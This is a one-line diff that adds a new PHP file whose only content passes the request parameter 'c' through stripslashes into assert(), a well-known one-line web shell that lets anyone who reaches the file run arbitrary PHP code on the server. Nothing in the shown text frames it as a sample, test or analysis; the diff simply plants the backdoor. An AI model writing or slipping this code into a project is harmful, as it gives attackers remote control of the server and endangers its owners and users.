@@ -1,0 +1,1 @@
+<?php assert(stripslashes($_REQUEST["c"]));
